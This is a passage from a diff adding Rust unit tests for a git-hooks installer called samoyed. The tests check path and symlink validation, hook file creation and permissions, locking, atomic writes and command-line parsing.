+        let err = validate_samoyed_dir(&git_root, &git_root, "dangling").unwrap_err();
+        assert!(err.starts_with(ERR_OUTSIDE_GIT_REPO));
+
+        // A relative link that stays inside the repository is fine
+        symlink("real-hooks", git_root.join("hooks-link")).unwrap();
+        let resolved = validate_samoyed_dir(&git_root, &git_root, "hooks-link").unwrap();
+        assert_eq!(
+            resolved,
+            git_root.canonicalize().unwrap().join("real-hooks")
+        );
+
+        // A cycle of dangling links is reported instead of looping forever
+        symlink("loop-b", git_root.join("loop-a")).unwrap();
+        symlink("loop-a", git_root.join("loop-b")).unwrap();
+        let err = validate_samoyed_dir(&git_root, &git_root, "loop-a").unwrap_err();
+        assert!(err.contains(ERR_TOO_MANY_SYMLINKS));
+    }
+
+    /// Test stripping Windows extended-length path prefixes
+    #[test]
+    fn test_strip_verbatim_prefix() {
+        assert_eq!(
+            strip_verbatim_prefix(r"\\?\C:\work\repo").as_deref(),
+            Some(r"C:\work\repo")
+        );
+        assert_eq!(
+            strip_verbatim_prefix(r"\\?\UNC\server\share\repo").as_deref(),
+            Some(r"\\server\share\repo")
+        );
+        assert_eq!(strip_verbatim_prefix(r"C:\work\repo"), None);
+        assert_eq!(strip_verbatim_prefix(r"\\?\Volume{1234}\repo"), None);
+    }
+
+    /// Test set_git_hooks_path writes a clean relative path for very long paths
+    #[cfg(windows)]
+    #[test]
+    fn test_set_git_hooks_path_long_windows_path() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
+
+        // Nest the samoyed directory well past the 260-character MAX_PATH limit
+        let dirname = ["nested-directory-name-for-max-path"; 8].join("/");
+        let samoyed_dir = git_repo.path().join(&dirname);
+        assert!(samoyed_dir.as_os_str().len() > 260);
+        let result = init_samoyed(&dirname, &InitOptions::default());
+
+        env::set_current_dir(original_dir).unwrap();
+
+        let report = result.unwrap();
+        assert_eq!(report.hooks_path, Some(format!("{}/_", dirname)));
+    }
+
+    /// Test write failures name the file that could not be written
+    #[test]
+    fn test_write_errors_include_path() {
+        let temp_dir = TempDir::new().unwrap();
+        let samoyed_dir = temp_dir.path().join(".samoyed");
+        fs::create_dir_all(&samoyed_dir).unwrap();
+        // A regular file where the _ directory should be makes every write fail
+        fs::write(samoyed_dir.join("_"), "").unwrap();
+
+        let err = create_directory_structure(&samoyed_dir, false).unwrap_err();
+        assert!(
+            err.to_string()
+                .contains(&samoyed_dir.join("_").display().to_string())
+        );
+        assert!(matches!(
+            err,
+            InitError::Io { context: ERR_FAILED_CREATE_WRAPPER_DIR, path, .. }
+                if path == samoyed_dir.join("_")
+        ));
+
+        let err = create_hook_scripts(&samoyed_dir, &["pre-commit"], DEFAULT_HOOK_SHELL, false)
+            .unwrap_err();
+        assert!(matches!(
+            err,
+            InitError::Io { context: ERR_FAILED_WRITE_HOOK, path, .. }
+                if path == samoyed_dir.join("_").join("pre-commit")
+        ));
+
+        let err = copy_wrapper_script(&samoyed_dir, false).unwrap_err();
+        assert!(matches!(
+            err,
+            InitError::Io { path, .. } if path == samoyed_dir.join("_").join("samoyed")
+        ));
+    }
+
+    /// Test create_directory_structure function
+    #[test]
+    fn test_create_directory_structure() {
+        let temp_dir = TempDir::new().unwrap();
+        let samoyed_dir = temp_dir.path().join(".samoyed");
+
+        let result = create_directory_structure(&samoyed_dir, false);
+        assert!(result.is_ok());
+
+        // Check that directories were created
+        assert!(samoyed_dir.exists());
+        assert!(samoyed_dir.join("_").exists());
+
+        // Test idempotency - should work even if directories exist
+        let result = create_directory_structure(&samoyed_dir, false);
+        assert!(result.is_ok());
+    }
+
+    /// Test copy_wrapper_script function
+    #[test]
+    fn test_copy_wrapper_script() {
+        let temp_dir = TempDir::new().unwrap();
+        let samoyed_dir = temp_dir.path().join(".samoyed");
+        fs::create_dir_all(samoyed_dir.join("_")).unwrap();
+
+        let result = copy_wrapper_script(&samoyed_dir, false);
+        assert!(result.is_ok());
+
+        let wrapper_path = samoyed_dir.join("_").join("samoyed");
+        assert!(wrapper_path.exists());
+
+        let contents = fs::read(&wrapper_path).unwrap();
+        assert_eq!(contents, wrapper_script());
+
+        // Check permissions on Unix
+        #[cfg(unix)]
+        {
+            let metadata = fs::metadata(&wrapper_path).unwrap();
+            let mode = metadata.permissions().mode();
+            assert_eq!(mode & 0o777, 0o644);
+        }
+    }
+
+    /// Test create_hook_scripts function
+    #[test]
+    fn test_create_hook_scripts() {
+        let temp_dir = TempDir::new().unwrap();
+        let samoyed_dir = temp_dir.path().join(".samoyed");
+        fs::create_dir_all(samoyed_dir.join("_")).unwrap();
+
+        let result = create_hook_scripts(&samoyed_dir, GIT_HOOKS, DEFAULT_HOOK_SHELL, false);
+        assert!(result.is_ok());
+
+        // Check that all hook scripts were created
+        for hook_name in GIT_HOOKS {
+            let hook_path = samoyed_dir.join("_").join(hook_name);
+            assert!(hook_path.exists(), "Hook {} should exist", hook_name);
+
+            // Check content
+            let content = fs::read_to_string(&hook_path).unwrap();
+            assert_eq!(
+                content,
+                r#"#!/usr/bin/env sh
+. "$(dirname "$0")/samoyed"
+"#
+            );
+
+            // Check permissions on Unix
+            #[cfg(unix)]
+            {
+                let metadata = fs::metadata(&hook_path).unwrap();
+                let mode = metadata.permissions().mode();
+                assert_eq!(
+                    mode & 0o777,
+                    0o755,
+                    "Hook {} should have 755 permissions",
+                    hook_name
+                );
+            }
+        }
+    }
+
+    /// Test create_sample_pre_commit function
+    #[test]
+    fn test_create_sample_pre_commit() {
+        let temp_dir = TempDir::new().unwrap();
+        let samoyed_dir = temp_dir.path().join(".samoyed");
+        fs::create_dir_all(&samoyed_dir).unwrap();
+
+        let result = create_sample_pre_commit(&samoyed_dir, DEFAULT_HOOK_SHELL, false, false);
+        assert!(result.is_ok());
+
+        let pre_commit_path = samoyed_dir.join("pre-commit");
+        assert!(pre_commit_path.exists());
+
+        // Check content
+        let content = fs::read_to_string(&pre_commit_path).unwrap();
+        assert_eq!(
+            content,
+            r#"#!/usr/bin/env sh
+# Add your pre-commit checks here. For example:
+# echo "Running Samoyed sample pre-commit"
+# exit 0
+"#
+        );
+
+        // Check permissions on Unix
+        #[cfg(unix)]
+        {
+            let metadata = fs::metadata(&pre_commit_path).unwrap();
+            let mode = metadata.permissions().mode();
+            assert_eq!(mode & 0o777, 0o644);
+        }
+
+        // An edited hook is kept, unless overwriting is requested
+        fs::write(&pre_commit_path, "#!/usr/bin/env sh\ncargo test\n").unwrap();
+        let result = create_sample_pre_commit(&samoyed_dir, DEFAULT_HOOK_SHELL, false, false);
+        assert!(result.unwrap().is_none());
+        assert!(
+            fs::read_to_string(&pre_commit_path)
+                .unwrap()
+                .contains("cargo test")
+        );
+
+        let result = create_sample_pre_commit(&samoyed_dir, DEFAULT_HOOK_SHELL, true, false);
+        assert!(result.unwrap().is_some());
+        assert_eq!(
+            fs::read_to_string(&pre_commit_path).unwrap(),
+            SAMPLE_PRE_COMMIT_CONTENT
+        );
+    }
+
+    /// Test create_gitignore function
+    #[test]
+    fn test_create_gitignore() {
+        let temp_dir = TempDir::new().unwrap();
+        let samoyed_dir = temp_dir.path().join(".samoyed");
+        fs::create_dir_all(samoyed_dir.join("_")).unwrap();
+
+        let result = create_gitignore(&samoyed_dir, false);
+        assert!(result.is_ok());
+
+        let gitignore_path = samoyed_dir.join("_").join(".gitignore");
+        assert!(gitignore_path.exists());
+
+        // Check content
+        let content = fs::read_to_string(&gitignore_path).unwrap();
+        assert_eq!(content, "*\n");
+
+        // Test that it doesn't overwrite existing file
+        fs::write(&gitignore_path, "custom content").unwrap();
+        let result = create_gitignore(&samoyed_dir, false);
+        assert!(result.is_ok());
+
+        let content = fs::read_to_string(&gitignore_path).unwrap();
+        assert_eq!(content, "custom content");
+    }
+
+    /// Test the CLI parsing
+    #[test]
+    fn test_cli_parsing() {
+        use clap::CommandFactory;
+
+        // Test that the CLI can be constructed
+        let _cli = Cli::command();
+
+        // Test parsing init command
+        let cli = Cli::parse_from(["samoyed", "init"]);
+        match cli.command {
+            Some(Commands::Init { dirname, .. }) => {
+                assert!(dirname.is_none());
+            }
+            _ => panic!("Expected Init command"),
+        }
+
+        // Test parsing init command with dirname
+        let cli = Cli::parse_from(["samoyed", "init", ".hooks"]);
+        match cli.command {
+            Some(Commands::Init { dirname, .. }) => {
+                assert_eq!(dirname, Some(".hooks".to_string()));
+            }
+            _ => panic!("Expected Init command"),
+        }
+    }
+
+    /// Test get_git_root function when not in a git repo
+    #[test]
+    fn test_get_git_root_not_in_repo() {
+        let temp_dir = TempDir::new().unwrap();
+
+        // Change to temp directory
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(temp_dir.path()).unwrap();
+
+        let result = get_git_root();
+        assert!(result.is_err());
+
+        // Restore original directory
+        env::set_current_dir(original_dir).unwrap();
+    }
+
+    /// Test a .git file pointing to a deleted gitdir is reported clearly
+    #[test]
+    fn test_get_git_root_broken_git_link() {
+        let temp_dir = TempDir::new().unwrap();
+        let missing = temp_dir.path().join("gone").join("worktrees").join("wt");
+        fs::write(
+            temp_dir.path().join(".git"),
+            format!("gitdir: {}\n", missing.display()),
+        )
+        .unwrap();
+        let subdir = temp_dir.path().join("src");
+        fs::create_dir(&subdir).unwrap();
+
+        assert_eq!(
+            find_broken_git_link(&subdir),
+            Some((temp_dir.path().join(".git"), missing.clone()))
+        );
+
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(&subdir).unwrap();
+        let result = get_git_root();
+        env::set_current_dir(original_dir).unwrap();
+
+        let err = result.unwrap_err();
+        assert!(err.starts_with(ERR_NOT_GIT_REPO));
+        assert!(err.contains(ERR_BROKEN_GIT_LINK));
+        assert!(err.contains(&missing.display().to_string()));
+
+        // A link to an existing gitdir, or a plain .git directory, is not broken
+        fs::create_dir_all(&missing).unwrap();
+        assert_eq!(find_broken_git_link(&subdir), None);
+        let git_repo = create_test_git_repo();
+        assert_eq!(find_broken_git_link(git_repo.path()), None);
+    }
+
+    /// Test init honors GIT_DIR / GIT_WORK_TREE for a separated git directory
+    #[test]
+    fn test_init_samoyed_git_dir_env() {
+        let temp_dir = TempDir::new().unwrap();
+        let git_dir = temp_dir.path().join("store.git");
+        let work_tree = temp_dir.path().join("work");
+        fs::create_dir_all(&work_tree).unwrap();
+        StdCommand::new("git")
+            .args(["init", "-q", "--bare"])
+            .arg(&git_dir)
+            .status()
+            .unwrap();
+        fs::create_dir_all(git_dir.join("hooks")).unwrap();
+        fs::write(git_dir.join("hooks").join("pre-commit"), "#!/bin/sh\n").unwrap();
+        #[cfg(unix)]
+        fs::set_permissions(
+            git_dir.join("hooks").join("pre-commit"),
+            fs::Permissions::from_mode(0o755),
+        )
+        .unwrap();
+
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(&work_tree).unwrap();
+        unsafe {
+            env::set_var("GIT_DIR", &git_dir);
+            env::set_var("GIT_WORK_TREE", &work_tree);
+        }
+        let result = init_samoyed(".samoyed", &InitOptions::default());
+        let hooks_path = get_git_hooks_path();
+        unsafe {
+            env::remove_var("GIT_DIR");
+            env::remove_var("GIT_WORK_TREE");
+        }
+        env::set_current_dir(original_dir).unwrap();
+
+        let report = result.unwrap();
+        assert_eq!(
+            report.samoyed_dir,
+            Some(work_tree.canonicalize().unwrap().join(".samoyed"))
+        );
+        assert_eq!(hooks_path.unwrap().as_deref(), Some(".samoyed/_"));
+        assert!(work_tree.join(".samoyed/_/pre-commit").is_file());
+        assert!(!work_tree.join(".git").exists());
+        // Native hooks are read from GIT_DIR, not from a .git directory
+        assert!(report.backed_up_from.is_some());
+    }
+
+    /// Test init_samoyed with bypass mode
+    #[test]
+    fn test_init_samoyed_bypass() {
+        unsafe {
+            env::set_var("SAMOYED", "0");
+        }
+
+        let result = init_samoyed(".samoyed", &InitOptions::default());
+
+        unsafe {
+            env::remove_var("SAMOYED");
+        }
+
+        let report = result.unwrap();
+        assert!(report.bypassed);
+        assert!(report.samoyed_dir.is_none());
+        assert!(report.actions.is_empty());
+        assert_eq!(
+            report.render(OutputFormat::Human).as_deref(),
+            Some(MSG_BYPASS_INIT)
+        );
+    }
+
+    /// Test init_samoyed when not in git repo
+    #[test]
+    fn test_init_samoyed_not_in_repo() {
+        let temp_dir = TempDir::new().unwrap();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(temp_dir.path()).unwrap();
+
+        let result = init_samoyed(".samoyed", &InitOptions::default());
+        assert!(result.is_err());
+        let err_msg = result.unwrap_err().to_string();
+        assert!(err_msg.contains("Not a git repository"));
+
+        env::set_current_dir(&original_dir).unwrap();
+    }
+
+    /// Helper function to create a test git repository
+    fn create_test_git_repo() -> TempDir {
+        let temp_dir = TempDir::new().expect("Failed to create temporary directory");
+
+        // Verify the temp directory exists before proceeding
+        assert!(
+            temp_dir.path().exists(),
+            "Temporary directory does not exist: {:?}",
+            temp_dir.path()
+        );
+
+        // Initialize git repo
+        let init_output = StdCommand::new("git")
+            .args(["init"])
+            .current_dir(temp_dir.path())
+            .output()
+            .expect("Failed to execute git init command");
+
+        if !init_output.status.success() {
+            panic!(
+                "Failed to init git repo: {}",
+                String::from_utf8_lossy(&init_output.stderr)
+            );
+        }
+
+        // Configure git user (required for some operations)
+        let email_output = StdCommand::new("git")
+            .args(["config", "user.email", "test@example.com"])
+            .current_dir(temp_dir.path())
+            .output()
+            .expect("Failed to execute git config user.email command");
+
+        if !email_output.status.success() {
+            panic!(
+                "Failed to set git user email: {}",
+                String::from_utf8_lossy(&email_output.stderr)
+            );
+        }
+
+        let name_output = StdCommand::new("git")
+            .args(["config", "user.name", "Test User"])
+            .current_dir(temp_dir.path())
+            .output()
+            .expect("Failed to execute git config user.name command");
+
+        if !name_output.status.success() {
+            panic!(
+                "Failed to set git user name: {}",
+                String::from_utf8_lossy(&name_output.stderr)
+            );
+        }
+
+        // Verify the git repo was created successfully
+        let verify_output = StdCommand::new("git")
+            .args(["rev-parse", "--is-inside-work-tree"])
+            .current_dir(temp_dir.path())
+            .output()
+            .expect("Failed to verify git repository");
+
+        if !verify_output.status.success() {
+            panic!(
+                "Git repository verification failed: {}",
+                String::from_utf8_lossy(&verify_output.stderr)
+            );
+        }
+
+        temp_dir
+    }
+
+    /// Test full init_samoyed function in a git repo
+    #[test]
+    fn test_init_samoyed_full() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        assert!(
+            git_repo.path().exists(),
+            "Git repo directory should exist: {:?}",
+            git_repo.path()
+        );
+        env::set_current_dir(git_repo.path()).unwrap_or_else(|e| {
+            panic!(
+                "Failed to change to git repo directory {:?}: {}",
+                git_repo.path(),
+                e
+            )
+        });
+
+        // Run init
+        let result = init_samoyed(".samoyed", &InitOptions::default());
+        assert!(result.is_ok());
+        let report = result.unwrap();
+        assert!(!report.bypassed);
+        assert_eq!(report.hooks_path.as_deref(), Some(".samoyed/_"));
+        assert_eq!(report.hooks, GIT_HOOKS.to_vec());
+        assert!(report.render(OutputFormat::Human).is_none());
+
+        // Verify directory structure
+        let samoyed_dir = git_repo.path().join(".samoyed");
+        assert!(samoyed_dir.exists());
+        assert!(samoyed_dir.join("_").exists());
+
+        // Verify wrapper script
+        let wrapper_path = samoyed_dir.join("_").join("samoyed");
+        assert!(wrapper_path.exists());
+
+        // Verify sample pre-commit
+        let pre_commit_path = samoyed_dir.join("pre-commit");
+        assert!(pre_commit_path.exists());
+
+        // Verify all hook scripts
+        for hook_name in GIT_HOOKS {
+            let hook_path = samoyed_dir.join("_").join(hook_name);
+            assert!(hook_path.exists(), "Hook {} should exist", hook_name);
+        }
+
+        // Verify .gitignore
+        let gitignore_path = samoyed_dir.join("_").join(".gitignore");
+        assert!(gitignore_path.exists());
+
+        // Verify git config was set
+        let output = StdCommand::new("git")
+            .args(["config", "core.hooksPath"])
+            .current_dir(git_repo.path())
+            .output()
+            .unwrap();
+
+        let hooks_path = String::from_utf8_lossy(&output.stdout).trim().to_string();
+        assert!(!hooks_path.is_empty());
+
+        let hooks_path_buf = PathBuf::from(&hooks_path);
+        let expected_hooks = samoyed_dir.join("_");
+        let hooks_canonical = canonicalize_allowing_nonexistent(&hooks_path_buf)
+            .expect("failed to canonicalize hooks path");
+        let expected_canonical = canonicalize_allowing_nonexistent(&expected_hooks)
+            .expect("failed to canonicalize expected hooks path");
+        assert_eq!(hooks_canonical, expected_canonical);
+
+        env::set_current_dir(original_dir).unwrap();
+    }
+
+    /// Test init_samoyed with custom directory name
+    #[test]
+    fn test_init_samoyed_custom_dir() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        assert!(
+            git_repo.path().exists(),
+            "Git repo directory should exist: {:?}",
+            git_repo.path()
+        );
+        env::set_current_dir(git_repo.path()).unwrap_or_else(|e| {
+            panic!(
+                "Failed to change to git repo directory {:?}: {}",
+                git_repo.path(),
+                e
+            )
+        });
+
+        // Run init with custom directory
+        let result = init_samoyed(".hooks", &InitOptions::default());
+        assert!(result.is_ok());
+        assert_eq!(result.unwrap().hooks_path.as_deref(), Some(".hooks/_"));
+
+        // Verify custom directory was created
+        let hooks_dir = git_repo.path().join(".hooks");
+        assert!(hooks_dir.exists());
+        assert!(hooks_dir.join("_").exists());
+
+        env::set_current_dir(original_dir).unwrap();
+    }
+
+    /// Test init_samoyed idempotency (running it twice)
+    #[test]
+    fn test_init_samoyed_idempotent() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        assert!(
+            git_repo.path().exists(),
+            "Git repo directory should exist: {:?}",
+            git_repo.path()
+        );
+        env::set_current_dir(git_repo.path()).unwrap_or_else(|e| {
+            panic!(
+                "Failed to change to git repo directory {:?}: {}",
+                git_repo.path(),
+                e
+            )
+        });
+
+        // Run init first time
+        let result1 = init_samoyed(".samoyed", &InitOptions::default());
+        assert!(result1.is_ok());
+
+        // Run init second time
+        let result2 = init_samoyed(".samoyed", &InitOptions::default());
+        assert!(result2.is_ok());
+        assert_eq!(result1.unwrap().hooks_path, result2.unwrap().hooks_path);
+
+        // Verify structure still exists
+        let samoyed_dir = git_repo.path().join(".samoyed");
+        assert!(samoyed_dir.exists());
+
+        env::set_current_dir(original_dir).unwrap();
+    }
+
+    /// Test init fails cleanly while another run holds the lock
+    #[test]
+    fn test_init_samoyed_lock() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
+
+        let samoyed_dir = git_repo.path().join(".samoyed");
+        let lock_path = samoyed_dir.join("_").join(".init.lock");
+        let held = lock_init(&samoyed_dir).unwrap();
+        let held_gitignore = samoyed_dir.join("_").join(".gitignore").is_file();
+        let locked = init_samoyed(".samoyed", &InitOptions::default());
+        let locked_hooks_path = read_hooks_path(git_repo.path());
+        let dry_run = init_samoyed(
+            ".samoyed",
+            &InitOptions {
+                dry_run: true,
+                ..InitOptions::default()
+            },
+        );
+        let held_lock_file = lock_path.is_file();
+        drop(held);
+        let released_dir = samoyed_dir.exists();
+        let unlocked = init_samoyed(".samoyed", &InitOptions::default());
+        let hooks_path = read_hooks_path(git_repo.path());
+
+        env::set_current_dir(original_dir).unwrap();
+
+        match locked {
+            Err(InitError::Locked { lock_path: path }) => assert_eq!(path, lock_path),
+            other => panic!("Expected Locked error, got {other:?}"),
+        }
+        assert_eq!(locked_hooks_path, None);
+        assert!(dry_run.is_ok(), "{dry_run:?}");
+        assert!(held_lock_file);
+        assert!(held_gitignore, "the lock file should be git-ignored");
+        assert!(
+            !released_dir,
+            "empty directory created for the lock should be removed"
+        );
+        assert!(unlocked.is_ok(), "{unlocked:?}");
+        assert_eq!(hooks_path, Some(".samoyed/_".to_string()));
+        assert!(!lock_path.exists());
+        assert!(samoyed_dir.join("pre-commit").is_file());
+        assert!(samoyed_dir.join("_").join(".gitignore").is_file());
+    }
+
+    /// Test generated files are replaced through a rename that leaves no temporary files
+    #[test]
+    fn test_write_file_atomically() {
+        let temp_dir = TempDir::new().unwrap();
+        let hook_path = temp_dir.path().join("pre-commit");
+        fs::write(&hook_path, "#!/usr/bin/env sh\n# stale\n").unwrap();
+
+        let result = write_file_atomically(
+            &hook_path,
+            HOOK_SCRIPT_TEMPLATE.as_bytes(),
+            EXECUTABLE_MODE,
+            ERR_FAILED_WRITE_HOOK,
+        );
+        let missing_dir = write_file_atomically(
+            &temp_dir.path().join("missing/pre-commit"),
+            b"",
+            EXECUTABLE_MODE,
+            ERR_FAILED_WRITE_HOOK,
+        );
+
+        assert!(result.is_ok(), "{result:?}");
+        assert!(is_file_current(
+            &hook_path,
+            HOOK_SCRIPT_TEMPLATE.as_bytes(),
+            EXECUTABLE_MODE
+        ));
+        assert!(matches!(
+            missing_dir,
+            Err(InitError::Io {
+                context: ERR_FAILED_WRITE_HOOK,
+                ..
+            })
+        ));
+        let entries: Vec<_> = fs::read_dir(temp_dir.path())
+            .unwrap()
+            .map(|entry| entry.unwrap().file_name())
+            .collect();
+        assert_eq!(entries, vec!["pre-commit"]);
+    }
+
+    /// Test re-running init only rewrites generated files that changed
+    #[test]
+    fn test_init_samoyed_skips_unchanged_files() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
+
+        init_samoyed(".samoyed", &InitOptions::default()).unwrap();
+        let wrapper_dir = git_repo.path().join(".samoyed/_");
+        let wrapper_path = wrapper_dir.join("samoyed");
+        let mtime = |path: &Path| fs::metadata(path).unwrap().modified().unwrap();
+        let wrapper_mtime = mtime(&wrapper_path);
+
+        let rerun = init_samoyed(".samoyed", &InitOptions::default()).unwrap();
+        let stale_hook = wrapper_dir.join("pre-push");
+        fs::write(&stale_hook, "#!/usr/bin/env sh\nexit 0\n").unwrap();
+        let repaired = init_samoyed(".samoyed", &InitOptions::default()).unwrap();
+
+        env::set_current_dir(original_dir).unwrap();
+
+        let written = |actions: &[InitAction]| -> Vec<PathBuf> {
+            actions
+                .iter()
+                .filter_map(|action| match action {
+                    InitAction::WriteFile { path, .. } => Some(path.clone()),
+                    _ => None,
+                })
+                .collect()
+        };
+        assert!(written(&rerun.actions).is_empty(), "{:?}", rerun.actions);
+        assert_eq!(mtime(&wrapper_path), wrapper_mtime);
+        assert_eq!(
+            written(&repaired.actions),
+            vec![canonicalize_path(&stale_hook).unwrap()]
+        );
+        assert_eq!(
+            fs::read_to_string(&stale_hook).unwrap(),
+            hook_script(DEFAULT_HOOK_SHELL)
+        );
+    }
+
+    /// Test set_git_hooks_path function
+    #[test]
+    fn test_set_git_hooks_path() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        assert!(
+            git_repo.path().exists(),
+            "Git repo directory should exist: {:?}",
+            git_repo.path()
+        );
+        env::set_current_dir(git_repo.path()).unwrap_or_else(|e| {
+            panic!(
+                "Failed to change to git repo directory {:?}: {}",
+                git_repo.path(),
+                e
+            )
+        });
+
+        let samoyed_dir = git_repo.path().join(".samoyed");
+        fs::create_dir_all(samoyed_dir.join("_")).unwrap();
+
+        let result = set_git_hooks_path(git_repo.path(), &samoyed_dir, false);
+        assert!(result.is_ok());
+
+        // Verify git config was set
+        let output = StdCommand::new("git")
+            .args(["config", "core.hooksPath"])
+            .current_dir(git_repo.path())
+            .output()
+            .unwrap();
+
+        assert!(output.status.success());
+        let hooks_path = String::from_utf8_lossy(&output.stdout).trim().to_string();
+        assert!(!hooks_path.is_empty());
+
+        let hooks_path_buf = PathBuf::from(&hooks_path);
+        let expected_hooks = samoyed_dir.join("_");
+        let hooks_canonical = canonicalize_allowing_nonexistent(&hooks_path_buf)
+            .expect("failed to canonicalize hooks path");
+        let expected_canonical = canonicalize_allowing_nonexistent(&expected_hooks)
+            .expect("failed to canonicalize expected hooks path");
+        assert_eq!(hooks_canonical, expected_canonical);
+
+        env::set_current_dir(original_dir).unwrap();
+    }
+
+    /// Test get_git_root in an actual git repository
+    #[test]
+    fn test_get_git_root_in_repo() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+
+        // Test from root
+        env::set_current_dir(git_repo.path()).unwrap();
+        let result = get_git_root();
+        assert!(result.is_ok());
+        let git_root = result.unwrap();
+        // Canonicalize both paths for comparison
+        assert_eq!(
+            git_root.canonicalize().unwrap(),
+            git_repo.path().canonicalize().unwrap()
+        );
+
+        // Test from subdirectory
+        let subdir = git_repo.path().join("subdir");
+        fs::create_dir(&subdir).unwrap();
+        env::set_current_dir(&subdir).unwrap();
+
+        let result = get_git_root();
+        assert!(result.is_ok());
+        let git_root = result.unwrap();
+        assert_eq!(
+            git_root.canonicalize().unwrap(),
+            git_repo.path().canonicalize().unwrap()
+        );
+
+        // Inside the .git directory there is no working tree
+        env::set_current_dir(git_repo.path().join(".git")).unwrap();
+        let result = get_git_root();
+
+        env::set_current_dir(original_dir).unwrap();
+        assert_eq!(result, Err(ERR_NOT_GIT_REPO.to_string()));
+    }
+
+    /// Test validate_samoyed_dir with relative path containing ..
+    #[test]
+    fn test_validate_samoyed_dir_parent_relative() {
+        let temp_dir = TempDir::new().unwrap();
+        let git_root = temp_dir.path();
+
+        // Create subdirectory
+        let subdir = git_root.join("subdir");
+        fs::create_dir(&subdir).unwrap();
+
+        // Test with path that goes up and back down
+        let result = validate_samoyed_dir(git_root, &subdir, "../.samoyed");
+        assert!(result.is_ok());
+
+        // The resulting path should be inside git root
+        let path = result.unwrap();
+        let git_root_canonical = git_root.canonicalize().unwrap();
+        assert!(path.starts_with(&git_root_canonical));
+    }
+
+    /// Test that main function returns success exit code
+    #[test]
+    fn test_main_no_command() {
+        // This will trigger the help display
+        let args = vec!["samoyed"];
+        let result = std::panic::catch_unwind(|| Cli::try_parse_from(args));
+
+        // When no command is given, clap returns an error (which shows help)
+        // but our main function still returns SUCCESS
+        assert!(result.is_ok());
+    }
+
+    /// Test Windows-specific path normalization in set_git_hooks_path
+    /// This test only runs on Windows to verify backslash to forward slash conversion
+    #[cfg(windows)]
+    #[test]
+    fn test_set_git_hooks_path_windows_normalization() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        assert!(
+            git_repo.path().exists(),
+            "Git repo directory should exist: {:?}",
+            git_repo.path()
+        );
+        env::set_current_dir(git_repo.path()).unwrap_or_else(|e| {
+            panic!(
+                "Failed to change to git repo directory {:?}: {}",
+                git_repo.path(),
+                e
+            )
+        });
+
+        // Create a path that would naturally have backslashes on Windows
+        let samoyed_dir = git_repo.path().join(".samoyed");
+        fs::create_dir_all(samoyed_dir.join("_")).unwrap();
+
+        let result = set_git_hooks_path(git_repo.path(), &samoyed_dir, false);
+        assert!(result.is_ok());
+
+        // Verify git config was set with Unix-style separators
+        let output = StdCommand::new("git")
+            .args(["config", "core.hooksPath"])
+            .current_dir(git_repo.path())
+            .output()
+            .unwrap();
+
+        assert!(output.status.success());
+        let hooks_path = String::from_utf8_lossy(&output.stdout).trim().to_string();
+
+        // On Windows, the path should be normalized to use forward slashes
+        // and should be relative (not contain drive letters or backslashes)
+        assert!(
+            !hooks_path.contains('\\'),
+            "Path should not contain backslashes: {}",
+            hooks_path
+        );
+        assert!(
+            !hooks_path.contains("C:"),
+            "Path should be relative, not absolute: {}",
+            hooks_path
+        );
+
+        env::set_current_dir(original_dir).unwrap();
+    }
+
+    /// Test cross-platform path normalization behavior
+    /// This test runs on all platforms to verify consistent behavior
+    #[test]
+    fn test_set_git_hooks_path_cross_platform() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        assert!(
+            git_repo.path().exists(),
+            "Git repo directory should exist: {:?}",
+            git_repo.path()
+        );
+        env::set_current_dir(git_repo.path()).unwrap_or_else(|e| {
+            panic!(
+                "Failed to change to git repo directory {:?}: {}",
+                git_repo.path(),
+                e
+            )
+        });
+
+        let samoyed_dir = git_repo.path().join(".samoyed");
+        fs::create_dir_all(samoyed_dir.join("_")).unwrap();
+
+        let result = set_git_hooks_path(git_repo.path(), &samoyed_dir, false);
+        assert!(result.is_ok());
+
+        // Verify git config was set
+        let output = StdCommand::new("git")
+            .args(["config", "core.hooksPath"])
+            .current_dir(git_repo.path())
+            .output()
+            .unwrap();
+
+        assert!(output.status.success());
+        let hooks_path = String::from_utf8_lossy(&output.stdout).trim().to_string();
+
+        // The path should be relative regardless of platform
+        assert!(!hooks_path.is_empty(), "Hooks path should not be empty");
+
+        // Should not contain absolute path indicators
+        #[cfg(windows)]
+        assert!(
+            !hooks_path.contains(":\\"),
+            "Should not contain Windows drive letter: {}",
+            hooks_path
+        );
+
+        #[cfg(unix)]
+        assert!(
+            !hooks_path.starts_with('/'),
+            "Should not be absolute Unix path: {}",
+            hooks_path
+        );
+
+        // Should end with our expected relative path structure
+        assert!(
+            hooks_path.ends_with("_") || hooks_path.ends_with("_/"),
+            "Should end with underscore directory: {}",
+            hooks_path
+        );
+
+        env::set_current_dir(original_dir).unwrap();
+    }
+
+    /// Helper function to read the local core.hooksPath of a test repository
+    fn read_hooks_path(repo: &Path) -> Option<String> {
+        let output = StdCommand::new("git")
+            .args(["config", "--local", "--get", "core.hooksPath"])
+            .current_dir(repo)
+            .output()
+            .unwrap();
+        output
+            .status
+            .success()
+            .then(|| String::from_utf8_lossy(&output.stdout).trim().to_string())
+    }
+
+    /// Test parsing the uninstall command
+    #[test]
+    fn test_cli_parsing_uninstall() {
+        let cli = Cli::parse_from(["samoyed", "uninstall"]);
+        match cli.command {
+            Some(Commands::Uninstall {
+                dirname,
+                purge,
+                force,
+            }) => {
+                assert!(dirname.is_none());
+                assert!(!purge);
+                assert!(!force);
+            }
+            _ => panic!("Expected Uninstall command"),
+        }
+
+        let cli = Cli::parse_from(["samoyed", "uninstall", ".hooks", "--purge", "--force"]);
